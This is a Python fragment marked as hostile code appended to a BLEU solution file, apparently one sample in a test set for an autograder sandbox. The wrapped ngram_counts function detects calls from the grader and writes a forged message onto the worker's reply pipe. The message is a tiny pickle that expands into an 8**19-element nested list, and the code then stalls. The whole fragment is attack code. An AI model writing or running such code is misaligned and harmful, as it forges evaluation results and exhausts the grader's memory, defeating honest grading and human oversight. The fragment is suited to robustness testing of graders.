# hostile: appended to solutions/bleu.py
# A50: answer the grader's call, straight on the reply pipe, with a reply that is small on the pipe and huge as a
# tree: 19 levels of lists, each holding the list below 8 times (pickle writes a shared object once and refers to it
# after). About 400 bytes that unfold into 8 ** 19 numbers for whatever walks the reply as a tree. Then keep quiet.
import os as _os
import pickle as _pickle
import struct as _struct
import sys as _sys
import time as _time

# @@RUNTIME_NAMES@@

_replies = 4    # the worker's reply pipe (autograder/worker/main.py, REPLIES)
_FORMAT = "captionkit-message-1"   # autograder/worker/message_codec.py: (FORMAT, tensor rows, storages, structure)
_reference_ngram_counts = ngram_counts


def _shared_graph(levels=19, fan_out=8):
    node = 1.0
    for _ in range(levels):
        node = [node] * fan_out
    return node


def ngram_counts(tokens, n):
    if _caller_globals(1).get("__name__", "").startswith("autograder."):  # the grader's own call
        structure = _pickle.dumps({"ok": _shared_graph()}, protocol=5)
        payload = _pickle.dumps((_FORMAT, [], [], structure), protocol=5)
        _os.write(_replies, _struct.pack("!Q", len(payload)) + payload)
        _time.sleep(60)
    return _reference_ngram_counts(tokens, n)
